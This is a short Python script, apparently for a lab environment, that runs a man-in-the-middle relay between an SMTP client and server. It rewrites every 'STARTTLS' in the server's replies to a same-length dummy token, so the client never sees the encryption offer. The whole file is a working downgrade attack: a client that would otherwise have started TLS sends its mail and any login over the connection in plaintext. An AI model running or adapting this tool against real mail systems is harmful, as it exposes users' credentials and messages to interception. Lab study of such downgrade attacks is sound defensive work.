"""Somebody in the middle: passes an SMTP session on and unmakes the server's offer of TLS, byte for byte
of the same length. Usage: strip_tls.py LISTEN SERVER PORT"""
from __future__ import annotations

import socket
import sys
import threading

from lab import HELPER


def pump(a: socket.socket, b: socket.socket, strip: bool) -> None:
    while data := a.recv(65536):
        b.sendall(data.replace(b"STARTTLS", b"XXXXXXXA") if strip else data)
    b.shutdown(socket.SHUT_WR)


def main() -> None:
    listen, server, port = sys.argv[1:]
    with socket.create_server((listen, int(port))) as door:
        while True:
            client, _ = door.accept()
            far = socket.create_connection((server, int(port)), source_address=(HELPER, 0))
            threading.Thread(target=pump, args=(client, far, False), daemon=True).start()
            threading.Thread(target=pump, args=(far, client, True), daemon=True).start()


main()
